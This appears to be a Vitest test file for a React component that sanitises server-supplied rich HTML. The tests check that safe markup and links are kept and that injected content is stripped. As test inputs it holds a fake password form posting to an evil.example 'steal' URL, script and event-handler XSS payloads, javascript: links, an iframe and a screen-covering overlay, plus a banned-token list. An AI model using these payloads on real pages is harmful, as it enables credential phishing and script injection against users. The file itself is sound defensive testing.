// @vitest-environment happy-dom
import { cleanup, render } from '@testing-library/react'
import { afterEach, describe, expect, it } from 'vitest'
import { RichHtml, sanitizeRichHtml } from './rich-html'

afterEach(cleanup)

describe('rich HTML from the server', () => {
  it('keeps text structure, tables, safe links and images', () => {
    const html =
      '<h2>活动</h2><p>满 <strong>100</strong> 送 <em>10</em></p><ul><li>一</li></ul>' +
      '<table><tbody><tr><td colspan="2">格</td></tr></tbody></table>' +
      '<a href="https://example.com/a" target="_blank">链接</a><img src="https://example.com/a.png" alt="图">'
    const clean = sanitizeRichHtml(html)
    expect(clean).toContain('<h2>活动</h2>')
    expect(clean).toContain('<strong>100</strong>')
    expect(clean).toContain('<td colspan="2">格</td>')
    expect(clean).toContain('href="https://example.com/a"')
    expect(clean).toContain('rel="noopener noreferrer"')
    expect(clean).toContain('<img src="https://example.com/a.png" alt="图">')
  })

  it('opens links to other sites in a new tab without an opener, and keeps links to the app in the app', () => {
    const clean = sanitizeRichHtml(
      '<a href="https://example.com/x">外部</a><a href="/hometopup">充值</a><a href="/vpn" target="_blank">帮助</a>',
    )
    expect(clean).toContain(
      '<a href="https://example.com/x" target="_blank" rel="noopener noreferrer">外部</a>',
    )
    expect(clean).toContain('<a href="/hometopup">充值</a>')
    expect(clean).toContain('<a href="/vpn" target="_blank" rel="noopener noreferrer">帮助</a>')
  })

  it('strips an injected password form, scripts, handlers and javascript: links', () => {
    const html =
      '<p>请重新登录</p><form action="https://evil.example/steal"><input type="password" name="pw">' +
      '<button>登录</button></form><script>alert(1)</script><img src="x" onerror="alert(1)">' +
      '<a href="javascript:alert(1)" onclick="alert(1)">点我</a><iframe src="https://evil.example"></iframe>' +
      '<svg><script>alert(1)</script></svg><textarea>x</textarea><select><option>1</option></select>'
    const clean = sanitizeRichHtml(html)
    for (const banned of [
      '<form',
      '<input',
      '<button',
      '<script',
      'onerror',
      'onclick',
      'javascript:',
      '<iframe',
      '<svg',
      '<textarea',
      '<select',
    ]) {
      expect(clean).not.toContain(banned)
    }
    expect(clean).toContain('请重新登录')
  })

  it('strips overlays: style, class and id attributes, and style elements', () => {
    const html =
      '<div style="position:fixed;inset:0;z-index:9999;background:#fff">全屏覆盖</div>' +
      '<div class="adm-mask" id="root">借用应用的样式</div><style>body{display:none}</style>'
    const clean = sanitizeRichHtml(html)
    expect(clean).not.toMatch(/style|class=|id=|position/)
    expect(clean).toContain('全屏覆盖')
  })

  it('renders only the sanitised markup into the page', () => {
    const { container } = render(
      <RichHtml html={'<p>好</p><form><input type="password"></form><div style="position:fixed">x</div>'} />,
    )
    expect(container.querySelector('form, input')).toBeNull()
    expect(container.querySelector('[style]')).toBeNull()
    expect(container.textContent).toContain('好')
  })
})
